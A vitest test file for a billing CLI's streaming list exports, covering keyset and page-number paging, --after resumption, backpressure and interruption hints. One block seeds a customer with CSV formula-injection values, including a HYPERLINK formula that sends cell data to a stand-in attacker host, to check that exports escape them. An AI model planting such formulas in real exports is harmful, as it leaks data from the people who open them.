// Streaming exports: `list --all -o ndjson|csv` writes each page as it comes, by id (page[after])
// where the service honours it and by page number where it does not; --after goes on after an id;
// an export cut short says where it stopped. Through main() on a core, against service doubles
// that record what was asked when, and (the signal and the broken pipe) through the built CLI.
import { spawn } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli.js';
import { memoryIO, type MemoryIO } from '../../src/lib/cli/io.js';
import type { Transport, TransportRequest, TransportResponse } from '../../src/lib/transport/types.js';
import { BIN, ensureBundle, TEST_CONFIG_DIR } from '../helpers/cli.js';
import { bigStore } from '../helpers/big-store.js';
import { tempDbPath, tempDir } from '../helpers/store.js';
import { cli, type Cli } from './harness.js';

const BASE = 'http://127.0.0.1:8080';
const ids = (ndjson: string): string[] =>
  ndjson
    .trimEnd()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line).id as string);
const routerDocument = (c: Cli, path: string, query?: Record<string, string | number>) =>
  c.withTransport(async (t) => (await t.request({ method: 'GET', path, query })).body as { data: { id: string }[] });

/** Customers 1..count through the API; every third archived. */
async function seed(c: Cli, count: number): Promise<void> {
  await c.seedCustomers(count);
  await c.withTransport(async (t) => {
    for (let id = 3; id <= count; id += 3) {
      const answer = await t.request({
        method: 'PATCH',
        path: `/customers/${id}`,
        body: { data: { type: 'customer', id: String(id), attributes: { archived: true } } },
      });
      expect(answer.status).toBe(200);
    }
  });
}

describe('--all -o ndjson and -o csv write what the gathered list would', () => {
  it('ndjson: every customer once, in id order, as the one-page list prints them, through pages of 2 by id', async () => {
    const c = cli();
    await seed(c, 7);
    const streamed = await c.run(['customers', 'list', '--all', '-o', 'ndjson', '--page-size', '2']);
    const whole = await routerDocument(c, '/customers', { 'page[size]': 100 });
    expect(streamed).toEqual({ code: 0, stdout: whole.data.map((r) => `${JSON.stringify(r)}\n`).join(''), stderr: '' });
    expect(streamed.stdout).toBe((await c.run(['customers', 'list', '-o', 'ndjson', '--page-size', '100'])).stdout);
  });

  it('csv: one header, then every row; the same text as one page of all of them, also with --fields and filters', async () => {
    const c = cli();
    await seed(c, 7);
    for (const flags of [
      [],
      ['--fields', 'customer=email,first_name'],
      ['--active'],
      ['--archived', '--sort', '-created_at'],
      ['--search', 'first'],
    ]) {
      const streamed = await c.run(['customers', 'list', '--all', '-o', 'csv', '--page-size', '2', ...flags]);
      const whole = await c.run(['customers', 'list', '-o', 'csv', '--page-size', '100', ...flags]);
      expect(streamed, flags.join(' ')).toEqual({ code: 0, stdout: whole.stdout, stderr: '' });
      expect(streamed.stdout.split('\r\n')[0], flags.join(' ')).toMatch(/^id,/);
      expect(streamed.stdout.match(/^id,/gm), flags.join(' ')).toHaveLength(1);
    }
  });

  it('the related lists stream too: the subscriptions of a customer, the lines of an invoice, the transactions of a subscription', async () => {
    const c = cli();
    await c.seedCustomers(1);
    // A plan (made by an operator), three subscriptions with their first transaction, an invoice with three lines.
    const made = async (argv: string[]) => {
      const result = await c.run([...argv, '-q', '-o', 'ndjson']);
      expect(result.code, result.stderr).toBe(0);
      return JSON.parse(result.stdout).id as string;
    };
    await made(['plans', 'create', '--name', 'Gold', '--amount', '12.50']);
    const subscriptions: string[] = [];
    for (let n = 0; n < 3; n++) {
      subscriptions.push(
        await made([
          'subscriptions',
          'create',
          '--customer-id',
          '1',
          '--subscription-plan-id',
          '1',
          '--status',
          'active',
          '--mandate-accepted',
          '--mandate-accepted-date',
          '2026-11-20',
        ]),
      );
    }
    const [subscription] = subscriptions;
    const invoice = await made(['invoices', 'create', '--subscription-id', subscription]);
    for (let n = 0; n < 3; n++)
      await made([
        'lines',
        'create',
        '--invoice-id',
        invoice,
        '--description',
        `line ${n}`,
        '--amount',
        '1',
        '--tax-rate',
        '21',
        '--quantity',
        '1',
      ]);
    for (const argv of [
      ['customers', 'subscriptions', '1'],
      ['invoices', 'lines', invoice],
      ['plans', 'subscriptions', '1'],
      ['subscriptions', 'transactions', subscription],
    ]) {
      for (const format of ['ndjson', 'csv']) {
        const streamed = await c.run([...argv, '--all', '-o', format, '--page-size', '2']);
        const whole = await c.run([...argv, '-o', format, '--page-size', '100']);
        expect(streamed, `${argv.join(' ')} ${format}`).toEqual({ code: 0, stdout: whole.stdout, stderr: '' });
        expect(whole.stdout.length, argv.join(' ')).toBeGreaterThan(10);
      }
    }
  });
});

describe('CSV a spreadsheet can open safely', () => {
  const HOSTILE = {
    first_name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    last_name: '@SUM(1)',
    email: 'h@example.com',
    telephone: '+31612345678',
    city: '-2+3',
  };
  const FIELDS = ['--fields', 'customer=first_name,last_name,city,telephone'];
  const ESCAPED = `id,first_name,last_name,city,telephone\r\n1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1),'-2+3,'+31612345678\r\n`;
  const RAW = `id,first_name,last_name,city,telephone\r\n1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1),-2+3,+31612345678\r\n`;

  async function hostile(): Promise<Cli> {
    const c = cli();
    await c.withTransport(async (t) => {
      const answer = await t.request({
        method: 'POST',
        path: '/customers',
        body: { data: { type: 'customer', attributes: HOSTILE } },
      });
      expect(answer.status).toBe(201);
    });
    return c;
  }

  it("-o csv of a page, of one resource and --all: a formula gets a leading ', the same in each", async () => {
    const c = await hostile();
    expect(await c.run(['customers', 'list', '-o', 'csv', ...FIELDS])).toEqual({
      code: 0,
      stdout: ESCAPED,
      stderr: '',
    });
    expect(await c.run(['customers', 'list', '--all', '-o', 'csv', ...FIELDS])).toEqual({
      code: 0,
      stdout: ESCAPED,
      stderr: '',
    });
    expect(await c.run(['customers', 'list', '--all', '--page-size', '1', '-o', 'csv', ...FIELDS])).toEqual({
      code: 0,
      stdout: ESCAPED,
      stderr: '',
    });
    expect((await c.run(['customers', 'get', '1', '-o', 'csv', ...FIELDS])).stdout).toBe(ESCAPED);
  });

  it('--csv-raw, before or after the command, writes the cells as they are', async () => {
    const c = await hostile();
    for (const argv of [
      ['--csv-raw', 'customers', 'list', '-o', 'csv', ...FIELDS],
      ['customers', 'list', '-o', 'csv', ...FIELDS, '--csv-raw'],
      ['customers', 'list', '--all', '-o', 'csv', '--csv-raw', ...FIELDS],
      ['--csv-raw', 'customers', 'get', '1', '-o', 'csv', ...FIELDS],
    ]) {
      expect(await c.run(argv), argv.join(' ')).toEqual({ code: 0, stdout: RAW, stderr: '' });
    }
  });

  it('leaves negative amounts numbers: the lines of an invoice with a discount', async () => {
    const c = cli();
    await c.seedCustomers(1);
    const made = async (argv: string[]) => {
      const result = await c.run([...argv, '-q', '-o', 'ndjson']);
      expect(result.code, result.stderr).toBe(0);
      return JSON.parse(result.stdout).id as string;
    };
    await made(['plans', 'create', '--name', 'Gold', '--amount', '12.50']);
    const subscription = await made(['subscriptions', 'create', '--customer-id', '1', '--subscription-plan-id', '1']);
    const invoice = await made(['invoices', 'create', '--subscription-id', subscription]);
    await made([
      'lines',
      'create',
      '--invoice-id',
      invoice,
      '--description',
      '-5% loyalty',
      '--amount',
      '-12,50',
      '--tax-rate',
      '21',
    ]);
    const lines = await c.run([
      'invoices',
      'lines',
      invoice,
      '-o',
      'csv',
      '--fields',
      'invoice-line=description,amount_excl,tax_amount',
    ]);
    expect(lines.stdout).toBe("id,description,amount_excl,tax_amount\r\n1,'-5% loyalty,-12.50,-2.63\r\n");
  });
});

describe('--after ID', () => {
  it('lists only what follows the id, in id order: an export resumed is the rest of the whole one', async () => {
    const c = cli();
    await seed(c, 9);
    const whole = (await c.run(['customers', 'list', '--all', '-o', 'ndjson'])).stdout.split('\n');
    const rest = await c.run(['customers', 'list', '--all', '-o', 'ndjson', '--page-size', '2', '--after', '4']);
    expect(rest).toEqual({ code: 0, stdout: whole.slice(4).join('\n'), stderr: '' });
    expect(ids(rest.stdout)).toEqual(['5', '6', '7', '8', '9']);
    // With a filter, and after an id that is not in the list.
    expect(
      ids((await c.run(['customers', 'list', '--all', '-o', 'ndjson', '--active', '--after', '3'])).stdout),
    ).toEqual(['4', '5', '7', '8']);
    expect(ids((await c.run(['customers', 'list', '--all', '-o', 'ndjson', '--after', '9'])).stdout)).toEqual([]);
    // CSV starts with its header again.
    expect(
      (await c.run(['customers', 'list', '--all', '-o', 'csv', '--fields', 'customer=email', '--after', '7'])).stdout,
    ).toBe('id,email\r\n8,c8@example.com\r\n9,c9@example.com\r\n');
    // --after 0 is the start.
    expect(ids((await c.run(['customers', 'list', '--all', '-o', 'ndjson', '--after', '0'])).stdout)).toHaveLength(9);
  });

  it('works without --all (one page after the id, its footer pointing on) and with --all --json and the table', async () => {
    const c = cli();
    await seed(c, 9);
    const page = await c.run(['customers', 'list', '--after', '2', '--page-size', '3']);
    expect(page.code).toBe(0);
    expect(
      page.stdout
        .trimEnd()
        .split('\n')
        .slice(1)
        .map((line) => line.split('\t')[0]),
    ).toEqual(['3', '4', '5']);
    expect(page.stderr).toBe('3 customers after id 2 (next: --after 5 --page-size 3)\n');
    expect((await c.run(['customers', 'list', '--after', '9'])).stderr).toBe('no customers after id 9\n');
    const document = JSON.parse(
      (await c.run(['customers', 'list', '--after', '6', '--all', '--page-size', '2', '--json'])).stdout,
    );
    expect(document.data.map((r: { id: string }) => r.id)).toEqual(['7', '8', '9']);
    expect(document.links.next).toBeNull();
    const table = await c.run(['customers', 'list', '--after', '6', '--all', '--page-size', '2']);
    expect(table.stderr).toBe('all 3 customers after id 6\n');
  });

  it('beside --sort other than id, or --page, or as no id, is exit 2 naming the flags, before anything is sent', async () => {
    const c = cli();
    for (const [argv, message] of [
      [['--after', '3', '--sort', '-created_at'], /--after .*--sort -created_at/],
      [['--after', '3', '--sort', '-id'], /--after .*--sort -id/],
      [['--after', '3', '--page', '2'], /--after and --page/],
      [['--after', 'abc'], /--after must be an id/],
      [['--after', '-1'], /--after must be an id/],
    ] as const) {
      const result = await c.run(['customers', 'list', '--all', '-o', 'ndjson', ...argv]);
      expect(result.code, argv.join(' ')).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(message);
    }
    // The store was never opened: a read of a store that does not exist would say so instead.
    expect((await c.run(['customers', 'list', '--after', '3', '--sort', 'id', '-o', 'ndjson'])).code).toBe(0);
  });

  it("a subscription's transactions (newest first, not in id order) refuse it: exit 2, saying why", async () => {
    const c = cli();
    await c.seedCustomers(1);
    const result = await c.run(['subscriptions', 'transactions', '1', '--all', '-o', 'ndjson', '--after', '3']);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(
      /--after cannot be used with this list: the service refused page\[after\] \(.*not in id order/,
    );
  });
});

// ---- service doubles ----

interface Double {
  transport: Transport;
  /** Every request, with how many lines stdout held when it was made. */
  requests: { request: TransportRequest; linesOut: number }[];
}

type Paging = 'keyset' | 'ignores' | 'refuses';

/** A customer as a server renders it; `extra` adds an attribute (a column the first page lacked). */
const customer = (id: number, extra?: Record<string, unknown>) => ({
  type: 'customer',
  id: String(id),
  links: { self: `${BASE}/customers/${id}` },
  attributes: { first_name: `First${id}`, last_name: `Last, "${id}"`, email: `c${id}@example.com`, ...extra },
});

/**
 * A server of /customers holding the ids given: it honours page[after] as this API does
 * ('keyset'), or knows only page[number] and ignores page[after] (the hosted service, older
 * servers) or refuses it (400 naming it). `fail` answers a request with something else (a 500, a
 * delay); `during` runs before each answer (to interrupt at a chosen moment).
 */
function double(
  io: MemoryIO,
  all: number[],
  paging: Paging,
  options: {
    fail?: (n: number) => TransportResponse | undefined;
    during?: (n: number) => void;
    extra?: (id: number) => Record<string, unknown> | undefined;
  } = {},
): Double {
  const requests: Double['requests'] = [];
  // What the double answers; one that throws (a hook, a clone) rejects the request, as an async method did.
  const reply = (request: TransportRequest): TransportResponse => {
    requests.push({ request: structuredClone(request), linesOut: io.stdout.split('\n').length - 1 });
    const n = requests.length;
    options.during?.(n);
    const failed = options.fail?.(n);
    if (failed) return failed;
    const url = new URL(request.path, BASE);
    for (const [key, value] of Object.entries(request.query ?? {}))
      if (value !== undefined) url.searchParams.set(key, String(value));
    const get = (name: string) => url.searchParams.get(name);
    const size = Number(get('page[size]') ?? 10);
    const render = (list: number[]) => list.map((id) => customer(id, options.extra?.(id)));
    if (get('page[after]') !== null && paging === 'refuses') {
      return {
        status: 400,
        headers: {},
        body: {
          errors: [
            {
              status: '400',
              title: 'Invalid Parameter',
              detail: 'unknown parameter',
              source: { parameter: 'page[after]' },
            },
          ],
        },
      };
    }
    if (get('page[after]') !== null && paging === 'keyset') {
      const after = Number(get('page[after]'));
      const rest = all.filter((id) => id > after);
      const data = rest.slice(0, size);
      const link = (from: number) => `${BASE}/customers?page%5Bafter%5D=${from}&page%5Bsize%5D=${size}`;
      return {
        status: 200,
        headers: {},
        body: {
          links: {
            self: link(after),
            first: link(0),
            last: null,
            prev: null,
            next: rest.length > size ? link(data[data.length - 1]) : null,
          },
          data: render(data),
        },
      };
    }
    const number = Number(get('page[number]') ?? 1);
    const last = Math.max(1, Math.ceil(all.length / size));
    const link = (page: number) => `${BASE}/customers?page[number]=${page}&page[size]=${size}`;
    return {
      status: 200,
      headers: {},
      body: {
        meta: { total: all.length },
        links: {
          self: link(number),
          first: link(1),
          last: link(last),
          prev: number > 1 ? link(number - 1) : null,
          next: number < last ? link(number + 1) : null,
        },
        data: render(all.slice((number - 1) * size, number * size)),
      },
    };
  };
  const transport: Transport = {
    mode: 'remote',
    request: (request) => new Promise<TransportResponse>((resolve) => resolve(reply(request))),
    async close() {},
  };
  return { transport, requests };
}

const IDS = [2, 3, 5, 8, 13, 21, 34];

async function exportWith(
  paging: Paging,
  argv: string[],
  options: Parameters<typeof double>[3] & { io?: MemoryIO } = {},
) {
  const io = options.io ?? memoryIO();
  const service = double(io, IDS, paging, options);
  const env = { BILLING_CONFIG_DIR: tempDir('billing-config-'), BILLING_DB: tempDbPath() };
  const code = await main(['customers', 'list', ...argv], io, env, { transport: service.transport });
  const asked = service.requests.map(({ request }) => {
    const url = new URL(request.path, BASE);
    for (const [key, value] of Object.entries(request.query ?? {}))
      if (value !== undefined) url.searchParams.set(key, String(value));
    return Object.fromEntries([...url.searchParams].filter(([key]) => key.startsWith('page[')));
  });
  return { code, stdout: io.stdout, stderr: io.stderr, requests: service.requests, asked };
}

describe('paging by id where the service can, by number where it cannot', () => {
  it('against a keyset server: page[after] from 0, then each links.next; the first line is out before the last page is asked for', async () => {
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '3']);
    expect(run.code).toBe(0);
    expect(ids(run.stdout)).toEqual(IDS.map(String));
    expect(run.asked).toEqual([
      { 'page[after]': '0', 'page[size]': '3' },
      { 'page[after]': '5', 'page[size]': '3' },
      { 'page[after]': '21', 'page[size]': '3' },
    ]);
    // Written page by page: nothing before the first answer, each page before the next request.
    expect(run.requests.map((r) => r.linesOut)).toEqual([0, 3, 6]);
  });

  it('streams 100 at a time unless --page-size says otherwise', async () => {
    expect((await exportWith('keyset', ['--all', '-o', 'ndjson'])).asked).toEqual([
      { 'page[after]': '0', 'page[size]': '100' },
    ]);
  });

  it('against a server that ignores page[after]: its page 1 by number, then page[number] links; the same lines', async () => {
    const run = await exportWith('ignores', ['--all', '-o', 'ndjson', '--page-size', '3']);
    expect(run.code).toBe(0);
    expect(ids(run.stdout)).toEqual(IDS.map(String));
    expect(run.asked).toEqual([
      { 'page[after]': '0', 'page[size]': '3' },
      { 'page[number]': '2', 'page[size]': '3' },
      { 'page[number]': '3', 'page[size]': '3' },
    ]);
    expect(run.requests.map((r) => r.linesOut)).toEqual([0, 3, 6]);
    expect(run.stderr).toBe('');
  });

  it('against a server that refuses page[after]: asks again by number, and goes on by number', async () => {
    const run = await exportWith('refuses', ['--all', '-o', 'csv', '--page-size', '3']);
    expect(run.code).toBe(0);
    expect(run.stdout.split('\r\n')).toEqual([
      'id,first_name,last_name,email',
      ...IDS.map((id) => `${id},First${id},"Last, ""${id}""",c${id}@example.com`),
      '',
    ]);
    expect(run.asked).toEqual([
      { 'page[after]': '0', 'page[size]': '3' },
      { 'page[number]': '1', 'page[size]': '3' },
      { 'page[number]': '2', 'page[size]': '3' },
      { 'page[number]': '3', 'page[size]': '3' },
    ]);
  });

  it('--sort other than id pages by number from the start (page[after] is for id order)', async () => {
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '5', '--sort', '-created_at']);
    expect(run.asked).toEqual([
      { 'page[number]': '1', 'page[size]': '5' },
      { 'page[number]': '2', 'page[size]': '5' },
    ]);
  });

  it('--after against a server that ignores or refuses page[after] is exit 2, nothing written', async () => {
    for (const paging of ['ignores', 'refuses'] as const) {
      for (const argv of [['--all', '-o', 'ndjson'], ['--all', '--json'], []]) {
        const run = await exportWith(paging, [...argv, '--after', '5']);
        expect(run.code, `${paging} ${argv.join(' ')}`).toBe(2);
        expect(run.stdout).toBe('');
        expect(run.stderr).toMatch(
          /^error: --after cannot be used with this list: the service (does not page by id \(it ignored page\[after\]\)|refused page\[after\] \(unknown parameter\)); list it without --after\n$/,
        );
        expect(run.requests).toHaveLength(1);
      }
    }
  });

  it('--after against a keyset server starts after the id', async () => {
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '2', '--after', '5']);
    expect(ids(run.stdout)).toEqual(['8', '13', '21', '34']);
    expect(run.asked[0]).toEqual({ 'page[after]': '5', 'page[size]': '2' });
  });

  it('a keyset page that goes back, or a links.next after an empty page, is a protocol error, not a loop', async () => {
    const io = memoryIO();
    const back = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '3'], {
      io,
      fail: (n) =>
        n === 2
          ? {
              status: 200,
              headers: {},
              body: {
                links: { self: `${BASE}/customers?page[after]=5`, next: `${BASE}/customers?page[after]=5` },
                data: [customer(3)],
              },
            }
          : undefined,
    });
    expect(back.code).toBe(1);
    expect(back.stderr).toMatch(/error: the service's page after id 5 holds resources that do not follow it/);
  });

  it('csv: a column first seen on a later page is left out of the rows (the header is written), and named on stderr', async () => {
    const run = await exportWith('keyset', ['--all', '-o', 'csv', '--page-size', '3'], {
      extra: (id) => (id > 5 ? { city: 'Amsterdam' } : undefined),
    });
    expect(run.code).toBe(0);
    expect(run.stdout.split('\r\n')[0]).toBe('id,first_name,last_name,email');
    expect(run.stdout.split('\r\n')).toHaveLength(IDS.length + 2);
    expect(run.stderr).toBe('warning: left out of the CSV, first seen after its header was written: city\n');
  });
});

describe('backpressure', () => {
  it('asks for no page while the output has not taken the last one', async () => {
    const io = memoryIO();
    const pending: (() => void)[] = [];
    io.write = (text) =>
      new Promise<void>((resolve) => {
        io.stdout += text;
        pending.push(resolve);
      });
    const service = double(io, IDS, 'keyset');
    const env = { BILLING_CONFIG_DIR: tempDir('billing-config-'), BILLING_DB: tempDbPath() };
    const running = main(['customers', 'list', '--all', '-o', 'ndjson', '--page-size', '3'], io, env, {
      transport: service.transport,
    });
    for (let page = 1; page <= 3; page++) {
      while (pending.length === 0) await new Promise((resolve) => setTimeout(resolve, 1));
      // Time for a request that should not come.
      await new Promise((resolve) => setTimeout(resolve, 20));
      expect(service.requests).toHaveLength(page);
      pending.shift()!();
    }
    expect(await running).toBe(0);
    expect(ids(io.stdout)).toEqual(IDS.map(String));
  });
});

describe('an export cut short says where it stopped and how to go on', () => {
  it('Ctrl-C while a page is asked for: exit 130, the pages written, the last id and --after on stderr', async () => {
    const io = memoryIO();
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '2'], {
      io,
      during: (n) => n === 3 && io.interrupt('signal'),
    });
    expect(run.code).toBe(130);
    expect(ids(run.stdout)).toEqual(['2', '3', '5', '8']);
    expect(run.stderr).toBe(
      'stopped after 4 customers, the last written with id 8; to go on from there, run the same command with --after 8\nerror: interrupted\n',
    );
    // Going on from there gives the rest, exactly.
    const rest = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '2', '--after', '8']);
    expect(ids(run.stdout + rest.stdout)).toEqual(IDS.map(String));
  });

  it('Ctrl-C while a page is written: that page is finished first, and counted', async () => {
    const io = memoryIO();
    const write = io.write!.bind(io);
    let pages = 0;
    io.write = async (text) => {
      if (++pages === 2) io.interrupt('signal');
      await write(text);
    };
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '2'], { io });
    expect(run.code).toBe(130);
    expect(ids(run.stdout)).toEqual(['2', '3', '5', '8']);
    expect(run.requests).toHaveLength(2);
    expect(run.stderr).toMatch(
      /^stopped after 4 customers, the last written with id 8; to go on from there, run the same command with --after 8\n/,
    );
  });

  it('an error after some pages (a 500): exit 1, the hint before the error', async () => {
    const failure = {
      status: 500,
      headers: {},
      body: { errors: [{ status: '500', title: 'Internal Error', detail: 'boom' }] },
    };
    const run = await exportWith('keyset', ['--all', '-o', 'csv', '--page-size', '3'], {
      fail: (n) => (n === 3 ? failure : undefined),
    });
    expect(run.code).toBe(1);
    expect(run.stdout.split('\r\n')).toHaveLength(1 + 6 + 1);
    expect(run.stderr).toBe(
      'stopped after 6 customers, the last written with id 21; to go on from there, run the same command with --after 21\nerror: Internal Error: boom\n',
    );
  });

  it('the reader gone (a broken pipe): the hint, and the quiet end a broken pipe always had', async () => {
    const io = memoryIO();
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '3'], {
      io,
      during: (n) => n === 2 && io.interrupt('pipe'),
    });
    expect(run.code).toBe(0);
    expect(run.stderr).toBe(
      'stopped after 3 customers, the last written with id 5; to go on from there, run the same command with --after 5\n',
    );
  });

  it('paging by number, or sorted, it says what was written and that --after cannot go on from it', async () => {
    const io = memoryIO();
    const byNumber = await exportWith('ignores', ['--all', '-o', 'ndjson', '--page-size', '3'], {
      io,
      during: (n) => n === 2 && io.interrupt('signal'),
    });
    expect(byNumber.code).toBe(130);
    expect(byNumber.stderr).toBe(
      'stopped after 3 customers, the last written with id 5; this service pages by number only (no page[after]), so --after cannot go on from it: run it again whole\nerror: interrupted\n',
    );
    const io2 = memoryIO();
    const sorted = await exportWith('keyset', ['--all', '-o', 'ndjson', '--page-size', '3', '--sort', 'email'], {
      io: io2,
      during: (n) => n === 2 && io2.interrupt('signal'),
    });
    expect(sorted.stderr).toMatch(
      /^stopped after 3 customers, the last written with id 5; sorted by another field than id, the export cannot go on from an id: run it again whole\n/,
    );
  });

  it('cut short before anything was written: no hint', async () => {
    const io = memoryIO();
    const run = await exportWith('keyset', ['--all', '-o', 'ndjson'], { io, during: () => io.interrupt('signal') });
    expect(run).toMatchObject({ code: 130, stdout: '', stderr: 'error: interrupted\n' });
  });
});

// ---- the built CLI: a real signal, a real broken pipe ----

describe('the built CLI', () => {
  it('Ctrl-C (SIGINT) mid-export: exit 130; what was written is whole lines up to the id the hint names', async () => {
    ensureBundle('the last written with id');
    const db = bigStore(5_000);
    const child = spawn(
      process.execPath,
      [BIN, '--db', db, 'customers', 'list', '--all', '-o', 'ndjson', '--page-size', '10'],
      {
        env: { PATH: process.env.PATH, HOME: process.env.HOME, BILLING_CONFIG_DIR: TEST_CONFIG_DIR },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let stdout = '';
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    // Read the first chunk, then stop reading: the export waits on the full pipe.
    await new Promise<void>((resolve) =>
      child.stdout.once('data', (d) => ((stdout += d), child.stdout.pause(), resolve())),
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    child.kill('SIGINT');
    await new Promise((resolve) => setTimeout(resolve, 100));
    child.stdout.on('data', (d) => (stdout += d));
    child.stdout.resume();
    const code = await new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    expect(code, stderr).toBe(130);
    const last = /the last written with id (\d+); to go on from there, run the same command with --after (\d+)\n/.exec(
      stderr,
    );
    expect(last, stderr).not.toBeNull();
    expect(last![1]).toBe(last![2]);
    const written = ids(stdout).map(Number);
    expect(stdout.endsWith('\n')).toBe(true);
    expect(written).toEqual(Array.from({ length: Number(last![1]) }, (_, i) => i + 1));
    expect(written.length).toBeLessThan(5_000);
    expect(stderr).toMatch(/error: interrupted\n$/);
  });

  it('stderr read by a reader that has gone (2>&1 | head): the messages are lost, not the command: exit 0', async () => {
    ensureBundle('the last written with id');
    const db = bigStore(30);
    const child = spawn(process.execPath, [BIN, '--db', db, 'customers', 'list'], {
      env: { PATH: process.env.PATH, HOME: process.env.HOME, BILLING_CONFIG_DIR: TEST_CONFIG_DIR },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    // The reading end closed before anything is written: the list's footer line meets EPIPE.
    child.stderr.destroy();
    let stdout = '';
    child.stdout.on('data', (d) => (stdout += d));
    const code = await new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    expect(code).toBe(0);
    expect(stdout.split('\n')[0]).toMatch(/^id\t/);
  });

  it('the reader gone (EPIPE): the hint on stderr, exit 0 as before', async () => {
    ensureBundle('the last written with id');
    const db = bigStore(3_000);
    const child = spawn(process.execPath, [BIN, '--db', db, 'customers', 'list', '--all', '-o', 'ndjson'], {
      env: { PATH: process.env.PATH, HOME: process.env.HOME, BILLING_CONFIG_DIR: TEST_CONFIG_DIR },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    await new Promise<void>((resolve) => child.stdout.once('data', () => (child.stdout.destroy(), resolve())));
    const code = await new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    expect(code, stderr).toBe(0);
    expect(stderr).toMatch(
      /^stopped after \d+ customers, the last written with id (\d+); to go on from there, run the same command with --after \1\n$/,
    );
  });
});
